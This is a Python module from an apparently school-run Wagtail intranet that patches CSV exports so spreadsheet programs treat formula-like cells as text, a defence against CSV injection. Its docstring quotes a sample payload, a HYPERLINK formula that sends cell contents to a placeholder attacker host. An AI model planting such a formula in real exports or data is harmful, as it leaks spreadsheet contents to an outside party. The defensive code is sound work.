"""CSV exports that a spreadsheet program opens as text, never as formulas ("CSV injection").

Every CSV export of the admin goes through Wagtail's ``SpreadsheetExportMixin``: the
modeladmin index views (the register of social media sites), Wagtail's reports (Site
history, Aging pages, …) and our policy reports. Its XLSX writer already stores
formula-like cells as text, but its CSV writer wrote them as they were, so a page title
or account name such as ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` became a live
formula when a Headteacher opened the export in Excel.

``neutralise_csv_exports()`` wraps ``SpreadsheetExportMixin.write_csv_row`` once, at
start-up (``IntranetConfig.ready``), so every current and future subclass is covered
without each view having to remember. The rule is OWASP's ("CSV Injection"): a cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a
single quote, which spreadsheet programs show as text and do not evaluate.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """Return ``value`` with a leading ``'`` if it is text a spreadsheet would read as a formula.

    Takes any cell value; anything that is not a string (numbers, dates, None) is returned
    unchanged, as is text that does not begin with one of ``FORMULA_TRIGGERS``.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class _NeutralisingWriter:
    """A ``csv.DictWriter`` stand-in whose ``writerow`` neutralises each cell first."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: dict):
        return self._writer.writerow({field: neutralise_formula(value) for field, value in row.items()})

    def __getattr__(self, name):
        return getattr(self._writer, name)


def neutralise_csv_exports() -> None:
    """Make ``SpreadsheetExportMixin.write_csv_row`` neutralise formulas; calling it again does nothing."""
    original = SpreadsheetExportMixin.write_csv_row
    if getattr(original, "neutralises_formulas", False):
        return

    def write_csv_row(self, writer, row_dict):
        return original(self, _NeutralisingWriter(writer), row_dict)

    write_csv_row.neutralises_formulas = True
    write_csv_row.__doc__ = original.__doc__
    SpreadsheetExportMixin.write_csv_row = write_csv_row
